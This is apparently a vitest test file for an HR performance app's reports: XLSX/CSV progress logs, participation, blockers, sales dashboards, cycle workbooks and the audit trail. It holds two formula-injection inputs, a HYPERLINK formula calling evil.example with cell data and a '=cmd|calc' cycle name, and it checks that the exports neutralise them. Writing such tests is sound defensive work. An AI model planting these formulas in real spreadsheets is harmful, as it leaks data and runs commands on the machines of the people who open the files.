/**
 * Issue 13 items 4–6 and issue 12 item 9: the progress log as XLSX, the dashboards' data (JSON and CSV), role
 * dashboards from the metric store, HR's cycle report, and the audit trail by actor — each scoped by the policy.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client, PEOPLE_HEADER, TestApp } from '../support/harness';
import { TestClock } from '../support/clock';
import { DEFAULT_TEMPLATE, insertTemplates } from '../support/reviewTemplates';

const ORG = [
  PEOPLE_HEADER,
  'H1,赵人事,zhao.hr@example.com,人力资源部,,hr,Asia/Shanghai,zh-CN,,,hr',
  'M1,王芳,wang.fang@example.com,研发中心,,rnd,Asia/Shanghai,zh-CN,,,manager',
  'E1,李雷,li.lei@example.com,研发中心/后端组,wang.fang@example.com,rnd,Asia/Shanghai,zh-CN,,,employee',
  'E2,韩梅梅,han.meimei@example.com,研发中心/后端组,wang.fang@example.com,rnd,Asia/Shanghai,zh-CN,,,employee',
  'M2,陈销售,chen.sales@example.com,销售部,,sales,Asia/Shanghai,zh-CN,,,manager',
  'E3,周一,zhou.yi@example.com,销售部,chen.sales@example.com,sales,Asia/Shanghai,zh-CN,,,employee',
  'E4,吴二,wu.er@example.com,销售部,chen.sales@example.com,sales,Asia/Shanghai,zh-CN,,,employee',
].join('\n');

const GOALS = [
  'ref,parent_ref,level,title,owner_email,department,unit,start_value,target_value,weight,period_start,period_end,checkin_every_days',
  'I1,,individual,李雷的任务,li.lei@example.com,研发中心/后端组,个,0,10,1,2026-10-01,2026-12-31,14',
  'I2,,individual,周一的销售额,zhou.yi@example.com,销售部,万元,0,100,1,2026-10-01,2026-12-31,14',
].join('\n');

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const Q = 'from=2026-11-01&to=2026-11-30';

async function workbookOf(res: Response): Promise<ExcelJS.Workbook> {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toContain('spreadsheetml.sheet');
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
  return book;
}
const rowsOf = (sheet: ExcelJS.Worksheet) => sheet.getSheetValues().slice(1).map((r) => (Array.isArray(r) ? r.slice(1) : []));

describe('reports', () => {
  let t: TestApp;
  let hr: Client, manager: Client, li: Client, sales: Client;
  let cycleId = 0;

  beforeAll(async () => {
    // the goals are entered at the start of their period, so every checkpoint counts
    t = await TestApp.start({ clock: new TestClock('2026-10-01T01:00:00Z') });
    expect((await t.importPeople(ORG)).status).toBe(200);
    expect((await t.request('POST', '/api/goals/import', GOALS, 'text/csv')).status).toBe(200);
    t.clock.set('2026-11-20T00:00:00Z');
    await t.runJob('standup-prompt');
    // 李雷: a formula as the first answer and a real blocker; 韩梅梅: no blocker; 周一: a blocker.
    for (const text of [FORMULA, '等待测试环境', '继续']) await t.say('li.lei@example.com', text);
    for (const text of ['完成了登录页', '无', '做设置页']) await t.say('han.meimei@example.com', text);
    // 韩梅梅 edits her third answer while the round is open
    await t.click('han.meimei@example.com', 'standup.edit', '3');
    await t.say('han.meimei@example.com', '做设置页和导出');
    for (const text of ['签了两单', '客户预算冻结', '跟进']) await t.say('zhou.yi@example.com', text);
    // Metrics for the sales dashboard, through the metric API.
    for (const [key, zh, en, unit] of [['signed_amount', '签约金额', 'signed amount', '万元'], ['customers', '客户数', 'customers', '家']]) {
      expect((await t.request('POST', '/api/metric-definitions', { key, label: { 'zh-CN': zh, en }, unit, direction: 'higher', aggregation: 'sum' })).status).toBe(201);
    }
    const records = [
      { email: 'zhou.yi@example.com', metric: 'signed_amount', period: '2026-10', value: 40 },
      { email: 'zhou.yi@example.com', metric: 'customers', period: '2026-10', value: 2 },
      { email: 'zhou.yi@example.com', metric: 'signed_amount', period: '2026-11', value: 90 },
      { email: 'zhou.yi@example.com', metric: 'customers', period: '2026-11', value: 3 },
      { email: 'wu.er@example.com', metric: 'signed_amount', period: '2026-11', value: 30 },
      { email: 'wu.er@example.com', metric: 'customers', period: '2026-11', value: 3 },
    ];
    expect((await t.request('POST', '/api/metrics', { source: 'crm', records })).status).toBe(200);
    // A review cycle whose name starts like a formula.
    insertTemplates(t, DEFAULT_TEMPLATE);
    const cycle = await t.request('POST', '/api/review-cycles', { name: '=cmd|calc 十一月', kind: 'monthly', periodStart: '2026-11-01', periodEnd: '2026-11-30' });
    cycleId = ((await cycle.json()) as { id: number }).id;
    expect((await t.request('POST', `/api/review-cycles/${cycleId}/open`)).status).toBe(200);
    [hr, manager, li, sales] = await Promise.all(['zhao.hr', 'wang.fang', 'li.lei', 'chen.sales'].map((n) => t.signInAs(`${n}@example.com`)));
  });
  afterAll(async () => t.destroy());

  it('exports the progress log as a real XLSX workbook, formulas neutralised, blockers marked, scoped like the JSON', async () => {
    const book = await workbookOf(await hr.request('GET', `/api/progress-log?${Q}&format=xlsx&locale=en`));
    const sheet = book.worksheets[0];
    expect(sheet.name).toBe('Progress log');
    const [header, ...rows] = rowsOf(sheet);
    expect(header.slice(0, 5)).toEqual(['Week', 'Name', 'E-mail', 'Department', 'Status']);
    expect(header.slice(-3)).toEqual(['Blocker', 'Edited', 'typed by']);
    const liRow = rows.find((r) => r[2] === 'li.lei@example.com')!;
    expect(liRow[5]).toBe(`'${FORMULA}`);
    expect(liRow[header.indexOf('Blocker')]).toBe('yes');
    const han = rows.find((r) => r[2] === 'han.meimei@example.com')!;
    expect(han[header.indexOf('Blocker')]).toBeUndefined(); // an empty cell
    expect(han[header.indexOf('Edited')]).toBe('yes');
    expect(han[7]).toBe('做设置页和导出');
    expect(liRow[header.indexOf('Edited')]).toBeUndefined();
    // no cell of the workbook is a formula or starts like one
    sheet.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(String(cell.value)).not.toMatch(/^[=+\-@\t\r]/);
    }));
    expect(new Set(rows.map((r) => r[2]))).toEqual(new Set(['li.lei@example.com', 'han.meimei@example.com', 'zhou.yi@example.com', 'wu.er@example.com', 'wang.fang@example.com', 'chen.sales@example.com', 'zhao.hr@example.com']));
    const mine = rowsOf((await workbookOf(await manager.request('GET', `/api/progress-log?${Q}&format=xlsx`))).worksheets[0]).slice(1);
    expect(new Set(mine.map((r) => r[2]))).toEqual(new Set(['wang.fang@example.com', 'li.lei@example.com', 'han.meimei@example.com']));
    const own = rowsOf((await workbookOf(await li.request('GET', `/api/progress-log?${Q}&format=xlsx`))).worksheets[0]).slice(1);
    expect(own.map((r) => r[2])).toEqual(['li.lei@example.com']);
    // the JSON marks the blocker answer too
    const json = await li.json<{ entries: { answers: { blocker: boolean }[] }[] }>('GET', `/api/progress-log?${Q}`);
    expect(json.body.entries[0].answers.map((a) => a.blocker)).toEqual([false, true, false]);
  });

  it('counts standup participation by week and department within the caller’s scope, as JSON and CSV', async () => {
    type P = { weeks: { week: string; asked: number; onTime: number; late: number; missing: number; excused: number }[]; departments: { department: string; asked: number; onTime: number }[] };
    const all = await hr.json<P>('GET', `/api/reports/participation?${Q}`);
    expect(all.status).toBe(200);
    expect(all.body.weeks.map((w) => w.week)).toEqual(['2026-W44', '2026-W45', '2026-W46', '2026-W47', '2026-W48', '2026-W49']);
    expect(all.body.weeks.find((w) => w.week === '2026-W47')).toEqual({ week: '2026-W47', asked: 7, onTime: 3, late: 0, missing: 4, excused: 0 });
    expect(all.body.departments.find((d) => d.department === '研发中心/后端组')).toMatchObject({ asked: 2, onTime: 2 });
    const team = await manager.json<P>('GET', `/api/reports/participation?${Q}`);
    expect(team.body.weeks.find((w) => w.week === '2026-W47')).toMatchObject({ asked: 3, onTime: 2, missing: 1 });
    expect(team.body.departments.map((d) => d.department)).toEqual(['研发中心', '研发中心/后端组']);
    const own = await li.json<P>('GET', `/api/reports/participation?${Q}`);
    expect(own.body.weeks.find((w) => w.week === '2026-W47')).toMatchObject({ asked: 1, onTime: 1 });
    const dept = await hr.json<P>('GET', `/api/reports/participation?${Q}&department=${encodeURIComponent('销售部')}`);
    expect(dept.body.weeks.find((w) => w.week === '2026-W47')).toMatchObject({ asked: 3, onTime: 1 });
    const csv = await hr.request('GET', `/api/reports/participation?${Q}&format=csv&locale=en`);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const rows = parse(await csv.text(), { bom: true }) as string[][];
    expect(rows[0]).toEqual(['Week', 'Department', 'Asked', 'On time', 'Late', 'Not answered', 'Excused (leave)']);
    expect(rows).toContainEqual(['2026-W47', '', '7', '3', '0', '4', '0']);
    expect((await hr.json('GET', '/api/reports/participation?from=2026-12-01&to=2026-11-01')).status).toBe(400);
    expect((await hr.json('GET', `/api/reports/participation?${Q}&bogus=1`)).status).toBe(400);
  });

  it('counts blockers raised and still open, per week', async () => {
    type B = { weeks: { week: string; raised: number; open: number }[] };
    const all = await hr.json<B>('GET', `/api/reports/blockers?${Q}`);
    expect(all.body.weeks.find((w) => w.week === '2026-W47')).toEqual({ week: '2026-W47', raised: 2, open: 2 });
    expect(all.body.weeks.find((w) => w.week === '2026-W48')).toEqual({ week: '2026-W48', raised: 0, open: 2 });
    const team = await manager.json<B>('GET', `/api/reports/blockers?${Q}`);
    expect(team.body.weeks.find((w) => w.week === '2026-W47')).toEqual({ week: '2026-W47', raised: 1, open: 1 });
  });

  it('traces overdue check-ins week by week up to today', async () => {
    type O = { weeks: { week: string; asOf: string; overdue: number; people: number }[] };
    // 李雷 checks in today: that answers his 10-15 checkpoint, late — overdue until today, not after
    const goalId = t.sql<{ id: number }>(`select id from goals where ref = 'I1'`)[0].id;
    expect((await li.json('POST', `/api/goals/${goalId}/check-ins`, { value: 2 })).status).toBe(201);
    const all = await hr.json<O>('GET', '/api/reports/overdue?from=2026-10-01&to=2026-11-30');
    // checkpoints every 14 days from 2026-10-01 (10-15, 10-29, 11-12…); today is 2026-11-20
    expect(all.body.weeks.at(-1)).toEqual({ week: '2026-W47', asOf: '2026-11-20', overdue: 5, people: 2 });
    expect(all.body.weeks.find((w) => w.week === '2026-W46')).toEqual({ week: '2026-W46', asOf: '2026-11-15', overdue: 6, people: 2 });
    expect(all.body.weeks.find((w) => w.week === '2026-W43')).toMatchObject({ asOf: '2026-10-25', overdue: 2, people: 2 });
    expect(all.body.weeks.find((w) => w.week === '2026-W40')).toMatchObject({ asOf: '2026-10-04', overdue: 0, people: 0 });
    const own = await li.json<O>('GET', '/api/reports/overdue?from=2026-10-01&to=2026-11-30');
    expect(own.body.weeks.at(-1)).toMatchObject({ overdue: 2, people: 1 });
    const sales = await hr.json<O>('GET', `/api/reports/overdue?from=2026-10-01&to=2026-11-30&department=${encodeURIComponent('销售部')}`);
    expect(sales.body.weeks.at(-1)).toMatchObject({ overdue: 3, people: 1 });
  });

  it('spreads this month’s points over the people in scope', async () => {
    type D = { month: string; people: number; mean: number; median: number; max: number; buckets: { from: number; to: number; count: number }[] };
    const all = await hr.json<D>('GET', '/api/reports/points?month=2026-11');
    expect(all.body.people).toBe(7);
    expect(all.body.buckets.reduce((s, b) => s + b.count, 0)).toBe(7);
    // three on-time standups earned the standup points
    const earned = t.sql<{ n: number }>(`select count(distinct person_id) as n from points_ledger where score_month = '2026-11' and amount > 0`)[0].n;
    expect(all.body.buckets[0]).toEqual({ from: 0, to: 0, count: 7 - earned });
    expect((await manager.json<D>('GET', '/api/reports/points?month=2026-11')).body.people).toBe(3);
    expect((await li.json<D>('GET', '/api/reports/points?month=2026-11')).body.people).toBe(1);
    expect((await hr.json('GET', '/api/reports/points?month=2026-13')).status).toBe(400);
  });

  it('shows review completion per cycle, scoped', async () => {
    type C = { cycles: { id: number; total: number; selfReview: number; managerReview: number; submitted: number }[] };
    expect((await hr.json<C>('GET', '/api/reports/review-completion')).body.cycles).toEqual([expect.objectContaining({ id: cycleId, total: 7, selfReview: 7, submitted: 0 })]);
    expect((await manager.json<C>('GET', '/api/reports/review-completion')).body.cycles[0]).toMatchObject({ total: 3 });
    expect((await li.json<C>('GET', '/api/reports/review-completion')).body.cycles[0]).toMatchObject({ total: 1 });
  });

  it('draws the sales dashboard from the metric store, for a team and for a person, with the deal-size swing', async () => {
    type R = { function: string; months: string[]; people: number; series: { key: string; kind: string; values: (number | null)[] }[] };
    const team = await sales.json<R>('GET', '/api/reports/roles?function=sales&from=2026-10&to=2026-11');
    expect(team.status).toBe(200);
    expect(team.body.months).toEqual(['2026-10', '2026-11']);
    expect(team.body.people).toBe(3); // the sales manager and two reports
    const series = Object.fromEntries(team.body.series.map((s) => [s.key, s.values]));
    expect(series.signed_amount).toEqual([40, 120]);
    expect(series.customers).toEqual([2, 6]);
    expect(series.avg_deal_size).toEqual([20, 20]);
    expect(series.deal_size_swing).toEqual([null, 0]);
    const one = await sales.json<R>('GET', '/api/reports/roles?function=sales&from=2026-10&to=2026-11&email=zhou.yi@example.com');
    expect(Object.fromEntries(one.body.series.map((s) => [s.key, s.values])).deal_size_swing).toEqual([null, 0.5]);
    // an R&D manager's sales dashboard has nobody in it; reading another team's person is refused
    expect((await manager.json<R>('GET', '/api/reports/roles?function=sales&from=2026-10&to=2026-11')).body.people).toBe(0);
    expect((await manager.json('GET', '/api/reports/roles?function=sales&from=2026-10&to=2026-11&email=zhou.yi@example.com')).status).toBe(403);
    expect((await hr.json('GET', '/api/reports/roles?function=legal&from=2026-10&to=2026-11')).status).toBe(400);
    // HR narrows the team to a department
    expect((await hr.json<R>('GET', `/api/reports/roles?function=sales&from=2026-10&to=2026-11&department=${encodeURIComponent('销售部')}`)).body.people).toBe(3);
    expect((await hr.json<R>('GET', `/api/reports/roles?function=sales&from=2026-10&to=2026-11&department=${encodeURIComponent('研发中心')}`)).body.people).toBe(0);
    const csv = parse(await (await sales.request('GET', '/api/reports/roles?function=sales&from=2026-10&to=2026-11&format=csv&locale=en')).text(), { bom: true }) as string[][];
    expect(csv[0]).toEqual(['Metric', 'Unit', '2026-10', '2026-11']);
    expect(csv).toContainEqual(['average deal size', '万元', '20', '20']);
  });

  it('gives HR the cycle report as one workbook: summary, participation, goals, grades, reviews', async () => {
    const book = await workbookOf(await hr.request('GET', `/api/reports/cycle?cycleId=${cycleId}&locale=en`));
    expect(book.worksheets.map((s) => s.name)).toEqual(['Summary', 'Standup participation', 'Goals', 'Grade distribution', 'Reviews']);
    const summary = rowsOf(book.getWorksheet('Summary')!);
    expect(summary[1]).toEqual(['Cycle', "'=cmd|calc 十一月"]);
    expect(summary).toContainEqual(['People reviewed', 7]);
    const grades = rowsOf(book.getWorksheet('Grade distribution')!);
    expect(grades.map((r) => r[0])).toEqual(['Grade', 'S', 'A', 'B', 'C', 'D', 'not graded yet']);
    expect(grades.slice(1).reduce((s, r) => s + Number(r[2]), 0)).toBe(7);
    const reviews = rowsOf(book.getWorksheet('Reviews')!);
    expect(reviews).toHaveLength(8);
    const goals = rowsOf(book.getWorksheet('Goals')!);
    expect(goals).toContainEqual(['研发中心/后端组', 1, 0.2, 2, 0, 0]); // 李雷 checked in 2 of 10 (the overdue test)
    expect((await manager.request('GET', `/api/reports/cycle?cycleId=${cycleId}`)).status).toBe(403);
    expect((await li.request('GET', `/api/reports/cycle?cycleId=${cycleId}`)).status).toBe(403);
    expect((await hr.json('GET', '/api/reports/cycle?cycleId=99999')).status).toBe(404);
  });

  it('closes a blocker when its person answers "none" the next week, and keeps one open that is raised again', async () => {
    t.clock.set('2026-11-27T03:00:00Z');
    await t.runJob('standup-prompt');
    for (const text of ['登录页完成', '无', '做设置页']) await t.say('li.lei@example.com', text);
    for (const text of ['跟进客户', '预算仍然冻结', '继续跟进']) await t.say('zhou.yi@example.com', text);
    type B = { weeks: { week: string; raised: number; open: number }[] };
    const all = await hr.json<B>('GET', '/api/reports/blockers?from=2026-11-16&to=2026-11-29');
    expect(all.body.weeks).toEqual([
      { week: '2026-W47', raised: 2, open: 2 },
      { week: '2026-W48', raised: 1, open: 1 },
    ]);
    const team = await manager.json<B>('GET', '/api/reports/blockers?from=2026-11-16&to=2026-11-29');
    expect(team.body.weeks.at(-1)).toEqual({ week: '2026-W48', raised: 0, open: 0 });
    t.clock.set('2026-11-20T00:00:00Z');
  });

  it('filters the audit trail by actor (an e-mail or the stored actor) and names the actor', async () => {
    const adminAccount = t.sql<{ id: number }>(`select id from accounts where email = 'admin@example.com'`)[0].id;
    type A = { entries: { actor: string; actorEmail: string | null; action: string }[] };
    const byEmail = await hr.json<A>('GET', '/api/audit?actor=admin@example.com');
    expect(byEmail.status).toBe(200);
    expect(byEmail.body.entries.length).toBeGreaterThan(0);
    expect(new Set(byEmail.body.entries.map((e) => e.actor))).toEqual(new Set([`account:${adminAccount}`]));
    expect(byEmail.body.entries[0].actorEmail).toBe('admin@example.com');
    expect((await hr.json<A>('GET', `/api/audit?actor=account:${adminAccount}`)).body.entries).toEqual(byEmail.body.entries);
    expect((await hr.json<A>('GET', '/api/audit?actor=nobody@example.com')).body.entries).toEqual([]);
  });
});
